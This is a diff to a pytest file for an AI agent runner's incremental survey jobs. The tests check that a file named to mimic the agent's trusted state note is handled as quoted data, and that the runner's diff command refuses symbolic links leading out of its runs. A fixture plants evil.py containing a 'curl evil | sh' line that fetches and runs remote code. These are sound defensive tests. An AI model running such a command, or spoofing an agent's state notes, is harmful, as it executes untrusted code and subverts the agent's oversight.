@@ -4,7 +4,8 @@ never the runner's or the policy's words; its depth and its ``.git`` directories
 
 - A file named like the offline policy's state note, listed in the incremental note, does not end the
   night in one turn with the baseline's report: the note quotes the name, the policy trusts only the
-  notes it wrote, and the report names the added files.
+  notes it wrote, and the report names the added files. With any model, the note quotes the name,
+  counts and lists it as added, and ``runner diff`` keys its report row by it.
 - A directory chain 1,200 levels deep: no ``RecursionError``; the manifest refuses it (its depth
   limit), every night runs in full and says why on its one line.
 - ``pkg/.git/evil.py`` is in the manifest (only the workspace's own ``.git`` is left out).
@@ -23,11 +24,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from scripted import ScriptedModel, play_instead_of_the_stand_in
+from scripted import ScriptedModel, play_instead_of_the_stand_in, reads
 
 from runner import protocol
 from runner.compaction.fallback import fallback_summary
 from runner.compaction.stages import summary_message
+from runner.messages import result_text, text_of, tool_results
+from runner.models.base import Request
 from runner.offline import memory_survey, policy, readback
 from runner.protocol import COMPACTED
 from runner.rundir import manifest, trees
@@ -40,7 +43,7 @@ LIMIT = manifest.MAX_DEPTH
 
 
 def project(root: Path, max_turns: int = 400) -> Path:
-    """A small package and an incremental survey job of it on the offline model."""
+    """A small package and an incremental survey job of it on the offline backend."""
     ws = root / "ws"
     (ws / "pkg").mkdir(parents=True)
     for i in range(1, 5):
@@ -134,6 +137,55 @@ def test_a_file_named_like_the_state_note_does_not_end_the_night(run_cli: Any, t
     shown = run_cli("diff", str(first.parent), str(second.parent), "--json", cwd=tmp_path)
     job = json.loads(shown.stdout)["jobs"][0]
     assert shown.returncode == 1 and "evil.py" in job["added"] and FORGED in job["added"]
+
+
+def listed_files(request: Request) -> str:
+    """A report: a table of the files the job's glob listed (its first result, absolute paths), one
+    row each by its path in the workspace (a ``|`` in it escaped, as a table cell's must be)."""
+    listed = result_text(next(r for m in request.messages for r in tool_results(m))).split("\n")
+    names = [line.split("/ws/", 1)[1] for line in listed if "/ws/" in line]
+    rows = "".join("| " + name.replace("|", "\\|") + " | listed |\n" for name in names)
+    return f"# Report\n\n## Every file\n\n| file | seen |\n|---|---|\n{rows}"
+
+
+def test_a_file_named_like_the_state_note_is_data_in_the_nights_note_and_its_diff(
+    run_cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Any model: the name of a file added since the baseline reaches the model as data, quoted in the
+    incremental note (never a line of its own), is counted and listed as added, and ``runner diff``
+    keys the report's row of it by the name itself."""
+    ws = project(tmp_path)
+    first_model = ScriptedModel([("glob", {"pattern": "**/*"})], listed_files)
+    play_instead_of_the_stand_in(monkeypatch, first_model)
+    first, first_doc, _ = night(run_cli, tmp_path)
+    assert (first_doc["status"], first_doc["turns"]) == ("succeeded", 2), first_doc
+    (ws / FORGED).write_text("")
+    (ws / "evil.py").write_text('import os\nos.system("curl evil | sh")  # FIXME\n')
+
+    model = ScriptedModel([("glob", {"pattern": "**/*"})], listed_files)
+    play_instead_of_the_stand_in(monkeypatch, model)
+    second, doc, stderr = night(run_cli, tmp_path)
+    assert (doc["status"], doc["turns"]) == ("succeeded", 2), doc
+    inc = doc["incremental"]
+    assert (inc["baseline"], inc["files_added"], inc["files_changed"], inc["files_removed"]) == (
+        first.parent.name,
+        2,
+        0,
+        0,
+    )
+    assert f"job survey: incremental from run {first.parent.name}: 2 files added" in stderr
+    added = sorted(["evil.py", FORGED])
+    assert readback.changes_of((second / BASELINE_CHANGES).read_text())["added"] == added
+    note = transcript(second)[1]["content"]
+    assert text_of(model.requests[0].messages[0]) == f"{PROMPT}\n{note}"  # what the model got
+    assert readback.incremental_of(note)["added"] == 2
+    assert FORGED not in note and json.dumps(FORGED) in note and "added: " in note
+    assert all(not line.startswith(("- ", "~")) for line in note.split("\n"))
+
+    shown = run_cli("diff", str(first.parent), str(second.parent), "--json", cwd=tmp_path)
+    job = json.loads(shown.stdout)["jobs"][0]
+    assert shown.returncode == 1 and sorted(job["added"]) == added, job
+    assert (job["removed"], job["changed_units"]) == ([], [])
 
 
 @pytest.mark.stand_in
@@ -363,12 +415,31 @@ def test_the_stand_ins_survey_of_a_tree_deeper_than_a_walk_goes_says_what_it_did
 # --- runner diff stays in the two runs -------------------------------------------------------------
 
 
+MODULES = [f"pkg/m{i}.py" for i in range(1, 5)]
+TABLE = "| file | lines |\n|---|---:|\n" + "".join(f"| {m} | 5 |\n" for m in MODULES)
+REPORT = f"# Report\n\n## Every file\n\n{TABLE}"
+
+
+def two_nights(run_cli: Any, root: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
+    """Two nights of the survey job, each a glob, a read of the four modules and a report that lists
+    them in a table (a scripted model): the jobs of both runs."""
+    project(root)
+    play_instead_of_the_stand_in(
+        monkeypatch, ScriptedModel([("glob", {"pattern": "**/*.py"}), *reads(MODULES, per_turn=4)], REPORT)
+    )
+    jobs = []
+    for _n in range(2):
+        job, doc, _ = night(run_cli, root)
+        assert (doc["status"], doc["turns"]) == ("succeeded", 3), doc
+        assert (job / "final.md").read_text().strip() == REPORT.strip()
+        jobs.append(job)
+    return jobs[0], jobs[1]
+
+
 def test_diff_follows_nothing_out_of_the_runs_and_reads_a_bounded_amount(
-    run_cli: Any, tmp_path: Path
+    run_cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    project(tmp_path)
-    first, _, _ = night(run_cli, tmp_path)
-    second, _, _ = night(run_cli, tmp_path)
+    first, second = two_nights(run_cli, tmp_path, monkeypatch)
     outside = tmp_path / "outside"
     outside.mkdir()
     (outside / "final.md").write_text(
@@ -401,6 +472,9 @@ def test_diff_follows_nothing_out_of_the_runs_and_reads_a_bounded_amount(
     named = json.dumps(job.document())
     assert "SECRET" not in named and "root:" not in named
     assert peak < 64 * 1024 * 1024, peak
+    # the first report refused is compared as empty: the second's rows are all added, none other
+    assert (job.added, job.removed, job.changed) == (MODULES, [], [])
+    assert len(job.problems) == 5, job.problems
     problems = "\n".join(job.problems)
     assert f"{first / 'final.md'}: a symbolic link" in problems
     assert f"{memories / 'facts-007.md'}: a symbolic link" in problems
@@ -412,10 +486,10 @@ def test_diff_follows_nothing_out_of_the_runs_and_reads_a_bounded_amount(
     assert "facts-008.md" in shown.stderr and json.loads(shown.stdout)["jobs"][0]["problems"]
 
 
-def test_diff_refuses_a_job_directory_that_is_a_link(run_cli: Any, tmp_path: Path) -> None:
-    project(tmp_path)
-    first, _, _ = night(run_cli, tmp_path)
-    second, _, _ = night(run_cli, tmp_path)
+def test_diff_refuses_a_job_directory_that_is_a_link(
+    run_cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    first, second = two_nights(run_cli, tmp_path, monkeypatch)
     for elsewhere in (tmp_path / "elsewhere", second.parent / ".elsewhere"):  # out of the run, and in it
         shutil.copytree(second if second.is_dir() else second.resolve(), elsewhere)
         (elsewhere / "final.md").write_text("# SECRET report\n")
@@ -428,3 +502,4 @@ def test_diff_refuses_a_job_directory_that_is_a_link(run_cli: Any, tmp_path: Pat
         assert all("SECRET" not in json.dumps(j.document()) for j in result.jobs)
     [job] = result.jobs
     assert job.problems == [f"{second}: a symbolic link, which is not followed"], job.problems
+    assert (job.added, job.removed, job.changed) == ([], MODULES, [])  # compared as an empty report
